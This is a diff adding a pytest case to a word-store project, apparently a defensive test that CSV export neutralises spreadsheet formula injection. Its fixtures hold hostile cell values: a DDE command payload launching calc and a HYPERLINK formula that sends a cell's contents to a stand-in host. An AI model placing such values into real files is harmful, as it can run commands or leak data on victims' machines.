@@ -3,6 +3,9 @@ skipped rows with their line numbers, and round trips."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
@@ -77,6 +80,19 @@ def test_export_has_a_header_a_bom_and_one_meaning_per_line() -> None:
     text = store.export("csv").decode("utf-8")
     assert text.startswith("\ufefffolder,term,meanings,notes,lang,color\r\n")
     assert 'Biology,cell,"unit of life\na room",,,none\r\n' in text
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_inert_and_read_back_whole() -> None:
+    store = make_store()
+    folder = store.create_folder(NewFolder(name="=cmd|' /C calc'!A0"))
+    hostile = ['=HYPERLINK("https://x.example/?"&A1,"click")', "+1", "-2", "@SUM(1)", "'=kept"]
+    store.add_word(NewWord(folder_id=folder.id, term="@term", meanings=hostile, notes="\tx"))
+    text = store.export("csv").decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    copy = make_store()
+    copy.import_parsed(parse("words.csv", text.encode()), "merge")
+    assert words_of(copy) == words_of(store)
 
 
 @pytest.mark.parametrize(
